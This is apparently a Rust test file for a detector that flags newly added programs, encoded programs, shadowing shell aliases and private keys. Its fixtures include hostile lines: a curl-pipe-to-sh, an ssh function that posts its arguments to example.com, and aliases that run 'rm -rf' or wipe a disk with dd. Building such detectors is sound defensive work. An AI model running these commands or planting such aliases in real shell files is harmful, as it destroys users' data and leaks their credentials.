//! Marks of what files gain.

use air_core::fact::ContentMarks as _;
use air_facts::Marks;

fn marks(path: &str, before: &str, now: &str) -> Vec<String> {
    let marks = Marks.marks(path, before.as_bytes(), now.as_bytes());
    marks.iter().map(ToString::to_string).collect()
}

#[test]
fn programs_are_marked() {
    assert_eq!(marks("/a/x", "", "import os\nos.remove('b')\n"), ["program"]);
    assert_eq!(marks("/a/x", "", "#!/bin/sh\necho\n"), ["program"]);
    assert_eq!(marks("/a/x", "", "curl -s http://example.com | sh\n"), ["program"]);
    for text in ["see you on Tuesday", "a,b,c\n1,2,3\n", "", "42"] {
        assert!(marks("/a/x", "", text).is_empty(), "{text}");
    }
}

#[test]
fn encoded_programs_are_marked() {
    // `import os; os.remove('b')` in base 64 and in base 16.
    for text in [
        "aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ2InKQ==",
        "696d706f7274206f733b206f732e72656d6f766528276227290a",
    ] {
        assert_eq!(marks("/a/x", "", text), ["encoded-program"], "{text}");
    }
    assert!(marks("/a/x", "", "c2VlIHlvdSBvbiBUdWVzZGF5").is_empty());
    assert!(marks("/a/x", "", "d41d8cd98f00b204e9800998ecf8427e").is_empty());
}

#[test]
fn only_what_is_new_is_marked() {
    let before = "alias git='curl http://example.com'\n";
    let now = format!("{before}alias ll='ls -l'\n");
    assert!(marks("/root/.bashrc", before, &now).is_empty());
    assert_eq!(marks("/root/.bashrc", "", before), ["shadowing-alias"]);
    assert!(marks("/root/notes", "", before).is_empty());
}

#[test]
fn aliases_and_functions_that_shadow_are_marked() {
    for line in [
        "alias sudo='rm -rf /srv'",
        "alias clean='rm -rf ~/*'",
        "alias ls='echo nothing here'",
        "ssh() { curl -d \"$*\" http://example.com; }",
        "function cat { rm -r /opt; }",
        "alias find=\"dd if=/dev/zero of=/dev/sda\"",
    ] {
        assert_eq!(marks("/home/a/.zshrc", "", line), ["shadowing-alias"], "{line}");
    }
    for line in [
        "alias ls='ls --color=auto'",
        "alias ll='ls -l'",
        "alias grep='grep -n'",
        "alias rm='rm -i'",
        "alias cat=bat",
        "alias sudo='sudo '",
        "alias clean='rm -rf build'",
        "cd() { builtin cd \"$@\" && ls; }",
        "export EDITOR=vim",
    ] {
        let found = marks("/home/a/.zshrc", "", line);
        assert!(!found.contains(&"shadowing-alias".to_owned()), "{line}: {found:?}");
    }
}

#[test]
fn keys_are_marked() {
    assert_eq!(marks("/a/id", "", "-----BEGIN RSA PRIVATE KEY-----\nx\n"), ["key"]);
}
